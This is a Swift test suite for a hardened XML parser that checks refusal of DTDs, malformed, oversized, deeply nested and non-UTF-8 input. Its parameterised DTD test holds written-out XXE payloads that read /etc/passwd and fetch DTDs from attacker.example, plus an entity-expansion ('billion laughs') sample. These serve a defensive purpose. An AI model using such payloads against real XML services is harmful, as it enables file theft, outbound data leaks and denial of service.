import Foundation
import IdentityCore
import Testing
@testable import XMLSecurity

@Suite struct SafeXMLParserTests {
    @Test(arguments: [
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;]><r/>",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><r>&lol2;</r>",
        "<!DOCTYPE r SYSTEM \"http://attacker.example/r.dtd\"><r/>",
    ])
    func anyDocumentTypeDeclarationIsRefused(xml: String) {
        #expect(throws: XMLSecurityError(.xmlDTDForbidden, detail: "")) { try SafeXMLParser.parse(xml) }
    }

    @Test func anUndeclaredEntityReferenceIsMalformed() {
        #expect(throws: XMLSecurityError(.xmlMalformed, detail: "")) { try SafeXMLParser.parse("<r>&x;</r>") }
    }

    @Test func notXMLIsMalformed() {
        #expect(throws: XMLSecurityError(.xmlMalformed, detail: "")) { try SafeXMLParser.parse("not xml at all") }
        #expect(throws: XMLSecurityError(.xmlMalformed, detail: "")) { try SafeXMLParser.parse("<a><b></a>") }
    }

    @Test func oversizedAndDeepDocumentsAreRefused() {
        #expect(throws: XMLSecurityError(.xmlTooLarge, detail: "")) {
            try SafeXMLParser.parse("<r>" + String(repeating: "x", count: 300) + "</r>", limits: XMLParsingLimits(maximumBytes: 100))
        }
        let deep = String(repeating: "<a>", count: 100) + String(repeating: "</a>", count: 100)
        #expect(throws: XMLSecurityError(.xmlTooDeep, detail: "")) { try SafeXMLParser.parse(deep) }
    }

    @Test func nonUTF8InputIsRefused() {
        var utf16: [UInt8] = [0xFF, 0xFE]
        for unit in "<r/>".utf16 { utf16 += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
        #expect(throws: XMLSecurityError(.xmlEncodingUnsupported, detail: "")) { try SafeXMLParser.parse(utf16) }
        #expect(throws: XMLSecurityError(.xmlEncodingUnsupported, detail: "")) {
            try SafeXMLParser.parse("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r/>")
        }
        #expect(throws: XMLSecurityError(.xmlEncodingUnsupported, detail: "")) { try SafeXMLParser.parse([0x3C, 0x72, 0xC3, 0x28, 0x2F, 0x3E]) }
    }

    @Test func aPlainDocumentParses() throws {
        let document = try SafeXMLParser.parse("<?xml version=\"1.0\" encoding=\"UTF-8\"?><r a=\"1\"><c>t</c></r>")
        #expect(document.root.localName == "r")
        #expect(document.root.attribute("a") == "1")
        #expect(document.root.children.first?.text == "t")
    }
}
